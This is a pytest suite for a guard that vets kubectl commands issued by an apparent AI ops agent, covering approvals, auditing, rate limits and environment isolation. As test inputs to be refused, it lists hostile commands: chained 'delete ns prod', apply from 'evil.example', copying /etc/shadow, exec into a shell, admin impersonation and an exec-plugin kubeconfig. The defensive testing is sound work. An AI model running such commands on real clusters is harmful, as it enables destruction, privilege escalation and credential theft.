"""The command guard end to end: a fake kubectl that records argv and env, a recording audit sink."""

from __future__ import annotations

import asyncio
import dataclasses
import json
import sys
import typing
from pathlib import Path
from typing import Any

import pytest

from aofd import errors, settings
from aofd.audit import records
from aofd.daemon import auditsink
from aofd.runtime import approvaldesk, approvals, commands, guard, limits, ports
from aofd.specs import policy

FAKE = Path(__file__).parent / "bin" / "fake_kubectl.py"
REQUESTER = ports.UserRef("U0REQUESTER", "alice", "slack:T1")
LEAD = ports.UserRef("U015SRE_LEAD", "sre lead", "slack:T1")


class RecordingAudit:
    """An in-memory AuditSink; optionally fails durable writes like a full disk."""

    def __init__(self, *, fail_durable: bool = False) -> None:
        self.fail_durable = fail_durable
        self.records: list[tuple[str, dict[str, Any], bool]] = []
        self._redactor = records.ArgvRedactor(key=b"test-audit-key")

    async def write(self, context: str, event: ports.AuditEvent, *, durable: bool = False) -> None:
        if durable and self.fail_durable:
            raise errors.AuditUnavailable("fsync failed: EIO")
        record = auditsink.render(event, context=context, redactor=self._redactor)
        self.records.append((context, json.loads(json.dumps(record)), durable))

    def actions(self, context: str | None = None) -> list[str]:
        return [r["event"]["action"] for c, r, _ in self.records if context in (None, c)]

    def find(self, action: str) -> list[dict[str, Any]]:
        return [r for _, r, _ in self.records if r["event"]["action"] == action]


class Harness:
    """A guard wired to real collaborators, a fake kubectl and per-test directories."""

    def __init__(self, tmp_path: Path, *, audit: RecordingAudit | None = None, timeout: float = 10.0) -> None:
        self.tmp = tmp_path
        bindir = tmp_path / "bin"
        bindir.mkdir(exist_ok=True)
        self.kubectl = bindir / "kubectl"
        self.kubectl.write_text(f"#!{sys.executable} -IS\n" + FAKE.read_text())
        self.kubectl.chmod(0o755)
        self.curl = bindir / "curl"  # the same recorder, for the `http` tool's curl argv
        self.curl.write_text(self.kubectl.read_text())
        self.curl.chmod(0o755)
        self.policies: dict[str, policy.GuardPolicy] = {}
        self.audit = audit or RecordingAudit()
        self.prompts: list[approvals.ApprovalRequest] = []
        self.prompted = asyncio.Event()
        self.store = approvals.ApprovalStore()
        self.limits = limits.RateLimits()
        runner = commands.CommandRunner(
            executables=settings.ExecutablesSpec(
                paths={"kubectl": self.kubectl, "curl": self.curl}, command_timeout=timeout
            ),
            cache_dir=tmp_path / "cache",
            work_dir=tmp_path / "work",
            kill_grace=0.2,
        )
        self.runner = runner
        self.guard = guard.CommandGuard(
            runner=runner,
            limits=self.limits,
            approvals=self.store,
            audit=self.audit,
            approval_requester=self.request_approval,
            policy_provider=self.policies.get,
        )

    def use_desk(self, prompter: Any) -> None:
        """Run approvals through a desk with `prompter` (it asks, and settles the prompts)."""
        desk = approvaldesk.ApprovalDesk(store=self.store, audit=self.audit, prompter=prompter)
        self.guard = guard.CommandGuard(
            runner=self.runner,
            limits=self.limits,
            approvals=self.store,
            audit=self.audit,
            desk=desk,
            policy_provider=self.policies.get,
        )

    async def request_approval(self, request: approvals.ApprovalRequest) -> None:
        self.prompts.append(request)
        self.prompted.set()

    def record_file(self, context: str) -> Path:
        return self.tmp / f"{context}.jsonl"

    def add(self, name: str, **fields: Any) -> policy.GuardPolicy:
        env = dict(fields.pop("env", {}))
        env["FAKE_RECORD"] = str(self.record_file(name))
        pol = policy.GuardPolicy(context=name, env=tuple(sorted(env.items())), **fields)
        self.policies[name] = pol
        return pol

    def runs(self, context: str) -> list[dict[str, Any]]:
        path = self.record_file(context)
        return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []

    async def run(
        self,
        context: str,
        argv: str | tuple[str, ...],
        *,
        user: ports.UserRef = REQUESTER,
        run_id: str = "run-1",
    ) -> commands.CommandResult | guard.Denial:
        request = guard.CommandRequest(
            context_name=context,
            argv=argv,
            run_id=run_id,
            agent="k8s-ops",
            user=user,
            origin=None,
            tool="kubectl",
        )
        return await self.guard.run(request)


STRICT_APPROVAL = policy.ApprovalPolicy(
    required=True,
    allowed_users=("U015SRE_LEAD",),
    require_for=policy.patterns(("kubectl delete", "kubectl scale", "kubectl apply")),
)


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get pods; kubectl delete ns prod",
        "kubectl get pods && kubectl delete ns prod",
        "kubectl get pods | kubectl delete ns prod -f -",
        "kubectl get pods\nkubectl delete ns prod",
        "kubectl get $(kubectl delete ns prod)",
        "kubectl get `kubectl delete ns prod`",
    ],
)
async def test_shell_operators_never_execute_and_are_audited(tmp_path: Path, command: str) -> None:
    """Row 17: refused with 'shell operators not allowed', nothing runs, command.denied is audited."""
    h = Harness(tmp_path)
    h.add("prod")
    result = await h.run("prod", command)
    assert isinstance(result, guard.Denial)
    assert result.stage == "syntax"
    assert "shell operators not allowed" in result.reason
    assert h.runs("prod") == []
    assert h.audit.actions("prod") == ["command.requested", "command.denied"]
    [denied] = h.audit.find("command.denied")
    assert denied["process"]["command_line"] == command
    assert denied["event"]["id"] == h.audit.find("command.requested")[0]["event"]["id"]


async def test_flag_first_delete_denied_when_only_get_allowed(tmp_path: Path) -> None:
    """Row 18: `kubectl -n prod delete pod x` is parsed to verb delete and denied."""
    h = Harness(tmp_path)
    h.add("prod", allowed=policy.patterns(("kubectl get",), allow=True))
    result = await h.run("prod", ("kubectl", "-n", "prod", "delete", "pod", "x"))
    assert isinstance(result, guard.Denial)
    assert result.rule == "allowed_commands"
    assert h.runs("prod") == []
    [denied] = h.audit.find("command.denied")
    assert denied["orchestrator"]["namespace"] == "prod"


@pytest.mark.parametrize(
    "command",
    [
        "/usr/bin/kubectl get pods",
        "../bin/kubectl get pods",
        "./kubectl get pods",
        "KUBECTL get pods",
        "sh -c 'kubectl get pods'",
        "env KUBECONFIG=/tmp/x kubectl get pods",
        "xargs kubectl get pods",
        "timeout 5 kubectl get pods",
        "kubectl --kubeconfig=/tmp/evil get pods",
        "kubectl --context other get pods",
        "kubectl --as system:admin get pods",
        "kubectl -s https://x get pods",
        "kubectl --token abc get pods",
        "kubectl apply -f https://evil.example/x.yaml",
        "kubectl apply -f -",
        "kubectl apply -k dir",
        "kubectl get --raw /api/v1/secrets",
        "kubectl exec pod -- sh",
        "kubectl cp pod:/etc/shadow x",
        "kubectl port-forward pod/x 8080",
        "kubectl proxy",
        "kubectl debug node/x --image=busybox",
        "kubectl edit deploy x",
    ],
)
async def test_refused_commands_never_run(tmp_path: Path, command: str) -> None:
    """Rows 19, 20, 22, 23, 24: paths, unknown names, wrappers, identity flags and escapes are denied."""
    h = Harness(tmp_path)
    h.add("prod")
    result = await h.run("prod", command)
    assert isinstance(result, guard.Denial), result
    assert h.runs("prod") == []
    assert h.audit.actions() == ["command.requested", "command.denied"]


async def test_plugin_on_host_path_never_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Row 21: `kubectl foo` is refused before exec even with `kubectl-foo` on the daemon's PATH."""
    plugins = tmp_path / "plugins"
    plugins.mkdir()
    marker = tmp_path / "plugin-ran"
    plugin = plugins / "kubectl-foo"
    plugin.write_text(f"#!/bin/sh\ntouch {marker}\n")
    plugin.chmod(0o755)
    monkeypatch.setenv("PATH", f"{plugins}:/usr/bin:/bin")
    h = Harness(tmp_path)
    h.add("prod")
    result = await h.run("prod", "kubectl foo")
    assert isinstance(result, guard.Denial)
    assert result.rule == "unknown-verb"
    assert not marker.exists()
    ok = await h.run("prod", "kubectl get pods")
    assert isinstance(ok, commands.CommandResult)
    assert h.runs("prod")[0]["env"]["PATH"] == commands.MISSING_PATH


async def test_daemon_env_hooks_absent_in_child(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Row 23: `kubectl diff` runs without the daemon's KUBECTL_EXTERNAL_DIFF and KUBE_EDITOR."""
    monkeypatch.setenv("KUBECTL_EXTERNAL_DIFF", "/tmp/evil")
    monkeypatch.setenv("KUBE_EDITOR", "/tmp/evil")
    h = Harness(tmp_path)
    h.add("prod")
    result = await h.run("prod", "kubectl diff -f app.yaml")
    assert isinstance(result, commands.CommandResult)
    assert result.exit_code == 0
    env = h.runs("prod")[0]["env"]
    assert "KUBECTL_EXTERNAL_DIFF" not in env
    assert "KUBE_EDITOR" not in env
    assert isinstance(await h.run("prod", "kubectl edit deploy x"), guard.Denial)


async def test_escape_runs_when_explicitly_allowed(tmp_path: Path) -> None:
    """Row 24: `kubectl exec` runs where the Context's allowed_commands names it."""
    h = Harness(tmp_path)
    h.add("debug", allowed=policy.patterns(("kubectl exec", "kubectl get"), allow=True))
    result = await h.run("debug", "kubectl exec web -- ls")
    assert isinstance(result, commands.CommandResult)
    assert h.runs("debug")[0]["argv"][1:] == ["--namespace", "default", "exec", "web", "--", "ls"]


async def test_exec_credential_plugin_kubeconfig_refused(tmp_path: Path) -> None:
    """Row 16: a Context whose kubeconfig has an exec plugin runs nothing."""
    kubeconfig = tmp_path / "kc"
    kubeconfig.write_text("users: [{name: u, user: {exec: {command: /bin/sh, args: [-c, id]}}}]\n")
    h = Harness(tmp_path)
    h.add("prod", kubeconfig=str(kubeconfig))
    result = await h.run("prod", "kubectl get pods")
    assert isinstance(result, guard.Denial)
    assert result.stage == "kubeconfig"
    assert "exec credential plugin not allowed" in result.reason
    assert h.runs("prod") == []


async def test_allowed_command_is_audited_through_its_life(tmp_path: Path) -> None:
    """requested, started (durable) and finished share one event id; finished has exit code and digest."""
    h = Harness(tmp_path)
    h.add("prod", namespace="payments", cluster="eu-1")
    result = await h.run("prod", "kubectl get pods")
    assert isinstance(result, commands.CommandResult)
    assert result.stdout == "ok\n"
    assert h.audit.actions() == ["command.requested", "command.started", "command.finished"]
    assert [durable for _, _, durable in h.audit.records] == [False, True, False]
    started, finished = h.audit.find("command.started")[0], h.audit.find("command.finished")[0]
    assert started["event"]["id"] == finished["event"]["id"]
    assert started["process"]["args"] == [str(h.kubectl), "--namespace", "payments", "get", "pods"]
    assert started["orchestrator"] == {
        "type": "kubernetes",
        "namespace": "payments",
        "cluster": {"name": "eu-1"},
        "resource": {"type": "pods"},
    }
    assert finished["event"]["outcome"] == "success"
    assert finished["process"]["exit_code"] == 0
    assert finished["aofd"]["output"]["sha256"] == result.output_sha256
    assert finished["aofd"]["output"]["bytes"] == 3
    assert "stdout" not in finished["aofd"]["output"]
    assert h.runs("prod")[0]["argv"][1:] == ["--namespace", "payments", "get", "pods"]


async def test_output_body_audited_only_with_log_responses(tmp_path: Path) -> None:
    """The Context's `audit.log_responses` decides whether the output body is in command.finished."""
    h = Harness(tmp_path)
    h.add("verbose", log_responses=True)
    await h.run("verbose", "kubectl get pods")
    assert h.audit.find("command.finished")[0]["aofd"]["output"]["stdout"] == "ok\n"


async def test_durable_audit_failure_means_no_run(tmp_path: Path) -> None:
    """Row 34/35 at the guard: if command.started cannot be made durable, the command does not run."""
    h = Harness(tmp_path, audit=RecordingAudit(fail_durable=True))
    h.add("prod")
    result = await h.run("prod", "kubectl get pods")
    assert isinstance(result, guard.Denial)
    assert result.reason == guard.AUDIT_UNAVAILABLE
    assert h.runs("prod") == []
    assert "command.finished" not in h.audit.actions()


async def test_timeout_is_a_failed_finish(tmp_path: Path) -> None:
    """Row 46: a hanging command is killed at the timeout; command.finished says failure, reason timeout."""
    h = Harness(tmp_path, timeout=0.5)
    h.add("prod")
    result = await h.run("prod", "kubectl get pods hang")
    assert isinstance(result, commands.CommandResult)
    assert result.timed_out
    [finished] = h.audit.find("command.finished")
    assert (finished["event"]["outcome"], finished["event"]["reason"]) == ("failure", "timeout")
    assert finished["aofd"]["timed_out"] is True


async def wait_prompt(h: Harness) -> approvals.ApprovalRequest:
    await asyncio.wait_for(h.prompted.wait(), 5)
    h.prompted.clear()
    return h.prompts[-1]


async def test_example2_prod_strict_waits_staging_permissive_runs(tmp_path: Path) -> None:
    """Seed Example 2: a delete needs approval in prod-strict and runs at once in staging-permissive."""
    h = Harness(tmp_path)
    h.add("prod-strict", approval=STRICT_APPROVAL)
    h.add("staging-permissive", approval=policy.ApprovalPolicy(required=False), env={"ALLOW_DELETE": "true"})
    staging = await h.run("staging-permissive", "kubectl delete pod x")
    assert isinstance(staging, commands.CommandResult)
    assert h.prompts == []
    task = asyncio.create_task(h.run("prod-strict", "kubectl delete pod x"))
    prompt = await wait_prompt(h)
    assert h.runs("prod-strict") == []
    assert prompt.rendered_argv() == '["kubectl", "--namespace", "default", "delete", "pod", "x"]'
    assert (
        await h.guard.decide(prompt.id, user=LEAD, approve=True, action_id="a1") is approvals.Decision.GRANTED
    )
    result = await task
    assert isinstance(result, commands.CommandResult)
    assert len(h.runs("prod-strict")) == 1
    assert h.audit.actions("prod-strict") == [
        "command.requested",
        "approval.requested",
        "approval.granted",
        "command.started",
        "command.finished",
    ]
    started = h.audit.find("command.started")[-1]
    assert started["aofd"]["approval"]["approvers"] == [
        {"id": LEAD.id, "name": LEAD.name, "domain": LEAD.domain}
    ]
    assert LEAD.id in started["related"]["user"]


async def test_only_an_allowed_id_other_than_the_requester_approves(tmp_path: Path) -> None:
    """Rows 25-26: requester, stranger and spoofed name are refused and audited; a repeat click is a no-op."""
    h = Harness(tmp_path)
    listed = policy.ApprovalPolicy(
        required=True,
        allowed_users=("U015SRE_LEAD", REQUESTER.id),
        require_for=policy.patterns(("kubectl delete",)),
    )
    h.add("prod", approval=listed)
    task = asyncio.create_task(h.run("prod", "kubectl delete pod x"))
    prompt = await wait_prompt(h)
    spoof = ports.UserRef("U0MALLORY", "U015SRE_LEAD", "slack:T1")
    stranger = ports.UserRef("U0STRANGER", "bob", "slack:T1")
    assert await h.guard.decide(prompt.id, user=REQUESTER, approve=True, action_id="1") is (
        approvals.Decision.SELF_NOT_ALLOWED
    )
    assert (
        await h.guard.decide(prompt.id, user=stranger, approve=True, action_id="2")
        is approvals.Decision.NOT_ALLOWED
    )
    assert (
        await h.guard.decide(prompt.id, user=spoof, approve=True, action_id="3")
        is approvals.Decision.NOT_ALLOWED
    )
    assert h.runs("prod") == []
    assert not task.done()
    assert (
        await h.guard.decide(prompt.id, user=LEAD, approve=True, action_id="4") is approvals.Decision.GRANTED
    )
    assert (
        await h.guard.decide(prompt.id, user=LEAD, approve=True, action_id="4")
        is approvals.Decision.REDELIVERED
    )
    assert isinstance(await task, commands.CommandResult)
    assert len(h.runs("prod")) == 1
    refused = h.audit.find("approval.refused")
    assert [r["event"]["reason"] for r in refused] == ["self_not_allowed", "not_allowed", "not_allowed"]
    assert h.audit.find("approval.denied") == []
    assert [r["aofd"]["approval"]["voter"]["id"] for r in refused] == [
        REQUESTER.id,
        "U0STRANGER",
        "U0MALLORY",
    ]
    assert {r["user"]["id"] for r in refused} == {REQUESTER.id}
    assert len(h.audit.find("approval.granted")) == 1


async def test_denied_approval_runs_nothing(tmp_path: Path) -> None:
    """An approver's deny ends the request: approval.denied and command.denied, no run."""
    h = Harness(tmp_path)
    h.add("prod", approval=STRICT_APPROVAL)
    task = asyncio.create_task(h.run("prod", "kubectl delete pod x"))
    prompt = await wait_prompt(h)
    assert (
        await h.guard.decide(prompt.id, user=LEAD, approve=False, action_id="n") is approvals.Decision.DENIED
    )
    result = await task
    assert isinstance(result, guard.Denial)
    assert result.reason == f"approval denied by {LEAD.id}"
    assert h.runs("prod") == []
    assert h.audit.actions()[-2:] == ["approval.denied", "command.denied"]


async def test_click_after_expiry_runs_nothing(tmp_path: Path) -> None:
    """Row 26: the approval times out, approval.expired is audited, and a late click is answered expired."""
    h = Harness(tmp_path)
    h.add(
        "prod",
        approval=policy.ApprovalPolicy(
            required=True,
            allowed_users=("U015SRE_LEAD",),
            require_for=policy.patterns(("kubectl delete",)),
            timeout_seconds=0.2,
        ),
    )
    result = await h.run("prod", "kubectl delete pod x")
    assert isinstance(result, guard.Denial)
    assert "approval expired" in result.reason
    prompt = h.prompts[-1]
    assert (
        await h.guard.decide(prompt.id, user=LEAD, approve=True, action_id="late")
        is approvals.Decision.EXPIRED
    )
    assert h.runs("prod") == []
    assert "approval.expired" in h.audit.actions()
    assert "command.started" not in h.audit.actions()


async def test_policy_tightened_while_waiting_is_denied_at_execution(tmp_path: Path) -> None:
    """Row 26: a reload that blocks the command between request and approval wins; nothing runs."""
    h = Harness(tmp_path)
    pol = h.add("prod", approval=STRICT_APPROVAL)
    task = asyncio.create_task(h.run("prod", "kubectl delete pod x"))
    prompt = await wait_prompt(h)
    h.policies["prod"] = policy.GuardPolicy(
        context="prod", env=pol.env, approval=STRICT_APPROVAL, blocked=policy.patterns(("kubectl delete",))
    )
    await h.guard.decide(prompt.id, user=LEAD, approve=True, action_id="ok")
    result = await task
    assert isinstance(result, guard.Denial)
    assert result.stage == "recheck"
    assert "policy changed" in result.reason
    assert h.runs("prod") == []
    assert h.audit.actions()[-2:] == ["approval.granted", "command.denied"]


async def test_readonly_context_through_the_guard(tmp_path: Path) -> None:
    """The seed's readonly-context runs get/describe/logs and refuses delete/apply/scale."""
    h = Harness(tmp_path)
    h.add(
        "readonly-context",
        allowed=policy.patterns(("kubectl get", "kubectl describe", "kubectl logs"), allow=True),
        blocked=policy.patterns(("kubectl delete", "kubectl apply", "kubectl scale")),
    )
    for command in ("kubectl get pods", "kubectl describe pod x", "kubectl logs x"):
        assert isinstance(await h.run("readonly-context", command), commands.CommandResult), command
    for command in ("kubectl delete pod x", "kubectl apply -f a.yaml", "kubectl scale deploy x --replicas=0"):
        assert isinstance(await h.run("readonly-context", command), guard.Denial), command
    assert len(h.runs("readonly-context")) == 3


async def test_two_contexts_concurrently_see_only_their_own_env(tmp_path: Path) -> None:
    """Commands of two Contexts running at once get their own KUBECONFIG, env, HOME and cwd."""
    h = Harness(tmp_path)
    kc_us, kc_eu = tmp_path / "kc-us", tmp_path / "kc-eu"
    for kc in (kc_us, kc_eu):
        kc.write_text("users: [{name: u, user: {token: abc}}]\n")
    h.add("prod-us", kubeconfig=str(kc_us), namespace="us", env={"REGION": "us-east-1"})
    h.add("prod-eu", kubeconfig=str(kc_eu), namespace="eu", env={"REGION": "eu-west-1"})
    results = await asyncio.gather(
        h.run("prod-us", "kubectl get pods slow"), h.run("prod-eu", "kubectl get pods slow")
    )
    assert all(isinstance(r, commands.CommandResult) for r in results)
    [us], [eu] = h.runs("prod-us"), h.runs("prod-eu")
    assert (us["env"]["KUBECONFIG"], us["env"]["REGION"], us["env"]["AOF_CONTEXT"]) == (
        str(kc_us),
        "us-east-1",
        "prod-us",
    )
    assert (eu["env"]["KUBECONFIG"], eu["env"]["REGION"], eu["env"]["AOF_CONTEXT"]) == (
        str(kc_eu),
        "eu-west-1",
        "prod-eu",
    )
    assert us["cwd"] != eu["cwd"]
    assert us["env"]["HOME"] != eu["env"]["HOME"]
    assert us["argv"][1:3] == ["--namespace", "us"]
    assert eu["argv"][1:3] == ["--namespace", "eu"]


async def test_rate_limit_audited_once_per_window(tmp_path: Path) -> None:
    """Row 33: 100 requests in a burst with 10/minute admit 10; one ratelimit.exceeded record is written
    at once, and one summary of the 89 others when the window ends (here: at shutdown)."""
    h = Harness(tmp_path)
    h.add("prod", limits=policy.LimitsPolicy(max_requests_per_minute=10))
    outcomes = [await h.guard.admit("prod", user=REQUESTER, run_id=f"r{i}") for i in range(100)]
    leases = [o for o in outcomes if isinstance(o, limits.Lease)]
    denials = [o for o in outcomes if isinstance(o, guard.Denial)]
    assert (len(leases), len(denials)) == (10, 90)
    assert "retry after" in denials[0].reason
    assert h.audit.actions() == ["ratelimit.exceeded"]
    await h.guard.aclose()
    assert [r["aofd"]["ratelimit"]["suppressed"] for r in h.audit.find("ratelimit.exceeded")] == [0, 89]
    for lease in leases:
        lease.release()


async def test_unknown_context_is_refused(tmp_path: Path) -> None:
    """No Context means refuse, never allow."""
    h = Harness(tmp_path)
    result = await h.run("nope", "kubectl get pods")
    assert isinstance(result, guard.Denial)
    assert result.stage == "context"


async def test_approver_removed_while_waiting_voids_the_grant(tmp_path: Path) -> None:
    """Row 26: a reload that drops the approver from allowed_users voids their grant; nothing runs."""
    h = Harness(tmp_path)
    pol = h.add("prod", approval=STRICT_APPROVAL)
    task = asyncio.create_task(h.run("prod", "kubectl delete pod x"))
    prompt = await wait_prompt(h)
    h.policies["prod"] = policy.GuardPolicy(
        context="prod",
        env=pol.env,
        approval=policy.ApprovalPolicy(
            required=True, allowed_users=("U0SOMEONE_ELSE",), require_for=policy.patterns(("kubectl delete",))
        ),
    )
    assert (
        await h.guard.decide(prompt.id, user=LEAD, approve=True, action_id="ok") is approvals.Decision.GRANTED
    )
    result = await task
    assert isinstance(result, guard.Denial)
    assert (result.stage, result.rule) == ("recheck", "approval")
    assert "approvers changed" in result.reason
    assert h.runs("prod") == []
    assert h.audit.actions()[-2:] == ["approval.granted", "command.denied"]


async def test_approval_still_counts_when_the_approver_stays_listed(tmp_path: Path) -> None:
    """A reload that keeps the approver (and adds rules elsewhere) does not void the grant."""
    h = Harness(tmp_path)
    pol = h.add("prod", approval=STRICT_APPROVAL)
    task = asyncio.create_task(h.run("prod", "kubectl delete pod x"))
    prompt = await wait_prompt(h)
    h.policies["prod"] = dataclasses.replace(pol, blocked=policy.patterns(("kubectl exec",)))
    await h.guard.decide(prompt.id, user=LEAD, approve=True, action_id="ok")
    assert isinstance(await task, commands.CommandResult)
    assert len(h.runs("prod")) == 1


async def test_a_kubeconfig_denial_never_shows_the_kubeconfig_value(tmp_path: Path) -> None:
    """A `${VAR}` kubeconfig may be any secret: a denial (to the model, the chat, the audit log)
    names the field, not the value."""
    h = Harness(tmp_path)
    secret = "xoxb-not-a-path-1234567890"
    h.add("prod", kubeconfig=secret)
    result = await h.run("prod", "kubectl get pods")
    assert isinstance(result, guard.Denial)
    assert result.stage == "kubeconfig"
    assert secret not in result.reason
    assert "spec.kubeconfig" in result.reason
    assert secret not in json.dumps(h.audit.records)


class DownEtcd:
    """A replica set's coordinator (`aofd.runtime.cluster.Coordinator`) whose etcd is down."""

    member = "host-a"

    async def _down(self, *args: Any, **kwargs: Any) -> Any:
        raise errors.CoordinatorUnavailable("etcd: read failed (DEADLINE_EXCEEDED)")

    update = get = delete = scan = _down


async def test_limits_that_cannot_be_checked_across_the_set_refuse_and_are_audited(tmp_path: Path) -> None:
    """In a replica set a Context's limits count every replica's runs; when etcd cannot be read the
    run is refused (fail closed), audited like a rate-limit refusal with the reason; a Context
    without limits needs no etcd."""
    h = Harness(tmp_path)
    h.limits = limits.SharedLimits(typing.cast("Any", DownEtcd()))
    h.use_desk(None)
    h.add("prod", limits=policy.LimitsPolicy(max_concurrent=5))
    h.add("free")
    got = await h.guard.admit("prod", user=REQUESTER, run_id="r1")
    assert isinstance(got, guard.Denial)
    assert got.stage == "limits"
    assert "could not be checked across the replica set" in got.reason
    assert "retry after 5 s" in got.reason
    [record] = h.audit.find("ratelimit.exceeded")
    assert record["aofd"]["ratelimit"]["limit"] == "cluster"
    assert "DEADLINE_EXCEEDED" in record["aofd"]["ratelimit"]["message"]
    lease = await h.guard.admit("free", user=REQUESTER, run_id="r2")
    assert isinstance(lease, limits.Lease)
    lease.release()
    await h.guard.aclose()
    await h.limits.aclose()
